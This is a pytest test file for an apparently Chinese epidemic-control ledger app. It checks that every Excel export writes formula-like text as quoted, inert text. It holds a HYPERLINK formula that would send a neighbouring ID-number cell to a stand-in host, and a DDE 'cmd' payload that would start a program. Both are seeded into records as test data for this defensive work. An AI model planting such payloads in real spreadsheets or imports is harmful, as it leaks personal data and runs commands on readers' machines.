"""No export writes a live formula or hyperlink: text that begins with = + - @ comes back out as text, quoted.

A name such as =HYPERLINK("http://…?d="&B3,"点击查看") imported from a village's CSV would otherwise send the
neighbouring cell (an ID number) to another host when the ledger export is opened, and =cmd|' /C calc'!A0
would start a program (DDE). Every workbook goes through core.exports.workbook_bytes / inert.
"""

import csv
import datetime
import html
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from python_calamine import CalamineWorkbook

from fangkong.accounts.models import Role
from fangkong.core.exports import Sheet, inert, workbook_bytes
from fangkong.ledger import services as ledger_services
from fangkong.people import services as people_services
from fangkong.people.models import Person
from fangkong.places.models import CheckIn, Place
from fangkong.regions.models import Region
from fangkong.reports import services as report_services
from tests import factories
from tests.people.ids import resident_id

HYPERLINK = '=HYPERLINK("http://x?d="&B3,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
REPORT_DAY = datetime.date(2020, 2, 2)


def _today() -> datetime.date:
    """Read when used: a run may cross local midnight."""
    return timezone.localdate()


def workbook_parts(content: bytes) -> tuple[list[str], list[str]]:
    """(the XML of every worksheet, every text the workbook holds: shared and inline strings)."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = book.namelist()
        sheets = [book.read(n).decode() for n in names if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        shared = book.read("xl/sharedStrings.xml").decode() if "xl/sharedStrings.xml" in names else ""
        assert not [n for n in names if n.startswith("xl/worksheets/_rels/")]  # no hyperlink targets
    texts = [html.unescape(t) for t in re.findall(r"<t(?: [^>]*)?>(.*?)</t>", shared + "".join(sheets), re.S)]
    return sheets, texts


def assert_inert(content: bytes) -> list[str]:
    """No formula, no hyperlink, no text that a spreadsheet program would run; returns the texts."""
    sheets, texts = workbook_parts(content)
    assert sheets
    for xml in sheets:
        assert not re.search(r"<f[ >]", xml), "a formula was written"
        assert "<hyperlink" not in xml
    assert [t for t in texts if t.startswith(TRIGGERS)] == []
    return texts


def rows_of(content: bytes, sheet: int = 0) -> list[list]:
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(sheet).to_python()


# The helper ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, written", [
    (HYPERLINK, "'" + HYPERLINK), (DDE, "'" + DDE), ("+86 138 0000 1111", "'+86 138 0000 1111"), ("-3", "'-3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    ("张三", "张三"), ("a=b", "a=b"), ("", ""), (None, ""),
    (-3, -3), (-2.5, -2.5), (Decimal("-36.5"), Decimal("-36.5")), (True, True),
    (datetime.date(2020, 1, 23), datetime.date(2020, 1, 23)),
])
def test_inert_quotes_text_that_begins_a_formula_and_keeps_numbers_and_dates(value, written):
    assert inert(value) == written
    assert type(inert(value)) is type(written)


def test_a_workbook_keeps_numbers_as_numbers_and_writes_every_text_as_text(db):
    exporter = factories.user("hq", display_name=DDE)
    content, rows = workbook_bytes([Sheet("名单", [HYPERLINK, "数"], [
        [HYPERLINK, -3], [DDE, 36.5], ["http://example.com/a", "0012"], ["-3", None]], title="@title")], exporter)
    assert rows == 4
    texts = assert_inert(content)
    assert "'@title" in texts and "'" + HYPERLINK in texts
    got = rows_of(content)
    assert got[0][0] == "'@title" and got[2] == ["'" + HYPERLINK, "数"]
    assert DDE in got[1][0]  # the exporter's name, after 导出人：
    assert got[3:] == [["'" + HYPERLINK, -3.0], ["'" + DDE, 36.5], ["http://example.com/a", "0012"], ["'-3", ""]]


# The ledger, imported from a CSV and exported -----------------------------------------------------------------

def import_csv(tmp_path, actor, rows) -> None:
    path = tmp_path / "台账.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([["姓名", "身份证号", "联系电话", "现住址", "来自何地"], *rows])
    result = ledger_services.import_ledger(actor, path, filename=path.name, region_code=factories.VILLAGE_A1,
                                           category="returnee")
    assert result.written, result.errors


def test_an_imported_formula_comes_out_of_the_ledger_export_as_quoted_text(tree, tmp_path, login):
    worker = factories.user("village1", Role.VILLAGE_WORKER, factories.VILLAGE_A1)
    import_csv(tmp_path, worker, [[HYPERLINK, resident_id("19800101", "101"), "13812345678", DDE, "+86武汉"],
                                  [DDE, resident_id("19800101", "102"), "13812345679", "@东岳村", "-"]])
    assert set(Person.objects.values_list("name", flat=True)) == {HYPERLINK, DDE}  # stored as typed

    response = login(worker).get("/ledger/export/", {"region": factories.VILLAGE_A1, "date": _today().isoformat()})

    assert response.status_code == 200
    assert_inert(response.content)
    sheet = rows_of(response.content)
    by_name = {row[1]: row for row in sheet[3:]}
    assert set(by_name) == {"'" + HYPERLINK, "'" + DDE}
    assert (by_name["'" + HYPERLINK][5], by_name["'" + HYPERLINK][7]) == ("'" + DDE, "'+86武汉")
    assert (by_name["'" + DDE][5], by_name["'" + DDE][7]) == ("'@东岳村", "'-")
    assert by_name["'" + HYPERLINK][0] == 1.0  # the row number is still a number


# Every export endpoint -----------------------------------------------------------------------------------------

@pytest.fixture
def scene(tree, tmp_path):
    """Formula-like text everywhere an export can take it from: people, an exporter's name, region and place
    names, a report's situation, the audit log."""
    Region.objects.filter(code=factories.TOWN_B).update(name="@SUM(A1:A9)")
    Region.objects.filter(code=factories.VILLAGE_A2).update(name="-1+1")
    hq = factories.user("hq", Role.HQ_ADMIN, factories.COUNTY, display_name=DDE)
    worker = factories.user("v_a1", Role.VILLAGE_WORKER, factories.VILLAGE_A1, display_name="+村干部")
    import_csv(tmp_path, worker, [[HYPERLINK, resident_id("19800101", "101"), "13812345678", DDE, "+86武汉"],
                                  [DDE, resident_id("19800101", "102"), "13812345679", "@东岳村", "-"]])
    people_services.find_or_record_person(worker, name="@李四", id_type="resident_id", id_number=resident_id("19800101", "103"),
                                          region_code=factories.VILLAGE_A1)  # its audit entry names it
    shop = Place.objects.create(name="=1+2超市", kind="supermarket", region_id=factories.VILLAGE_A1)
    subject, contact = Person.objects.get(name=HYPERLINK), Person.objects.get(name=DDE)
    moment = timezone.now() - datetime.timedelta(days=1)
    for who in (subject, contact):
        CheckIn.objects.create(person=who, place=shop, region_id=shop.region_id, checked_in_at=moment)
    report_services.submit_report(worker, factories.VILLAGE_A1, REPORT_DAY, HYPERLINK,
                                  now=timezone.make_aware(datetime.datetime(2020, 2, 2, 10)))
    return {"hq": hq, "subject": subject}


ENDPOINTS = {
    "ledger page": lambda s: ("/ledger/export/", {"region": factories.COUNTY, "date": _today().isoformat()}),
    "ledger api": lambda s: ("/api/ledger/export", {"region": factories.COUNTY, "date": _today().isoformat()}),
    "audit log": lambda s: ("/audit/export.xlsx", {}),
    "exposure contacts": lambda s: ("/tracing/exposure/export/", {"person": s["subject"].pk}),
    "daily table": lambda s: ("/rollup/daily.xlsx", {"region": factories.COUNTY, "date": _today().isoformat()}),
    "report page": lambda s: (reverse("reports:report_xlsx", args=[factories.VILLAGE_A1, REPORT_DAY.isoformat()]), {}),
    "report api": lambda s: (f"/api/reports/daily/{factories.VILLAGE_A1}/{REPORT_DAY}/xlsx", {}),
    "summary page": lambda s: (reverse("reports:summary_xlsx"), {"date": REPORT_DAY.isoformat()}),
    "summary api": lambda s: ("/api/reports/summary/xlsx", {"region": factories.COUNTY,
                                                            "date": REPORT_DAY.isoformat()}),
}


@pytest.mark.parametrize("endpoint", ENDPOINTS)
def test_no_export_writes_a_formula(endpoint, scene, login):
    url, params = ENDPOINTS[endpoint](scene)

    response = login(scene["hq"]).get(url, params)

    assert response.status_code == 200, response.content[:500]
    texts = assert_inert(response.content)
    # the exporter's name is in every file, and something formula-like was really written, quoted
    assert any(DDE in t for t in texts)
    assert [t for t in texts if t.startswith("'")], "\n".join(texts)
